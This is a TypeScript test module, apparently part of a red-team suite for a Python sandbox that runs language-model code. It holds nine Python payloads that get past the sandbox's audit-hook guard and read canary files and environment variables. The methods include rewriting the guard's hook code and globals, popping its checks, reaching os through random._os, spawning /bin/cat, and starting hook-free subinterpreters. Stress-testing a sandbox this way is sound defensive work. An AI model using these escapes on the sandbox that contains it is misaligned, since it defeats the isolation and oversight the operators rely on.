import type { Family } from './attack.js';

/** The guard of the language layer, where there is one, and the real builtins. */
const FIND = `
table = vars(print.__self__)
guard = getattr((__builtins__ if type(__builtins__) is dict else vars(__builtins__))["__import__"], "__self__", None)
guard = guard if hasattr(guard, "_audit") else None
`;

const READ = `print(table["open"](CANARY["file"]).read())\n`;

/** Walks from harmless objects to those that reach the host, each with another way past the guard. */
export const objectGraph: Family = {
  name: 'object graph',
  attacks: [
    {
      name: 'tells the guard that this thread runs setup code',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${FIND}
if guard:
    import threading
    guard.lifted_in = threading.get_ident()
${READ}`,
    },
    {
      name: 'finds the guard among all classes and gives its hook other code',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `
table = vars(print.__self__)
for each in ().__class__.__base__.__subclasses__():
    if each.__name__ == "Guard":
        each._audit.__code__ = (lambda self, event, args: None).__code__
${READ}`,
    },
    {
      name: 'moves the session folder of the guard to the root',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${FIND}
if guard:
    guard._folder = ""
${READ}`,
    },
    {
      name: 'replaces how the guard resolves paths',
      kind: 'boundary',
      aims: ['shared-file', 'kept-file'],
      code: `${FIND}
if guard:
    type(guard)._audit.__globals__["_real"] = lambda path: guard._folder + "/mine"
with table["open"](CANARY["kept"], "w") as file: file.write("changed")
${READ}`,
    },
    {
      name: 'makes every thread the one that is trusted',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${FIND}
if guard:
    type(guard)._audit.__globals__["get_ident"] = lambda: guard.lifted_in
${READ}`,
    },
    {
      name: "starts a program through the runtime's own builtins, past Python's audit events",
      kind: 'boundary',
      aims: ['shared-file'],
      code: `
held = getattr(llm_query, "__func__", llm_query).__globals__["__builtins__"]
load = held["__import__"] if type(held) is dict else held.__import__
util = load("multiprocessing.util", fromlist=["spawnv_passfds"])
pid = util.spawnv_passfds(b"/bin/cat", [b"cat", CANARY["file"].encode()], ())
load("posix").waitpid(pid, 0)
`,
    },
    {
      name: 'starts a second interpreter, which has no audit hook',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `
load = print.__self__.__import__
program = "print(open(%r).read(), flush=True)" % CANARY["file"]
try:
    one = load("_xxsubinterpreters")
    one.run_string(one.create(), program)
except ImportError:
    one = load("_interpreters")
    one.exec(one.create(), program)
`,
    },
    {
      name: 'copies a number to get at the globals of the module that copies',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `
held = (0).__reduce_ex__(2)[0].__globals__["__builtins__"]
table = held if type(held) is dict else vars(held)
modules = table["__import__"]("sys").modules
if "rlm_runtime.guard" in modules:
    modules["rlm_runtime.guard"]._CHECKS.pop("open")
${READ}`,
    },
    {
      name: 'takes the modules of an allowed module and the checks of the guard',
      kind: 'boundary',
      aims: ['host-variable', 'shared-file'],
      code: `
import random
os = random._os
print(os.environ.get(CANARY["variable"]))
guard = os.sys.modules.get("rlm_runtime.guard")
if guard:
    guard._CHECKS.update(open=lambda *_: None)
fd = os.open(CANARY["file"], os.O_RDONLY)
print(os.read(fd, 4096))
`,
    },
  ],
};
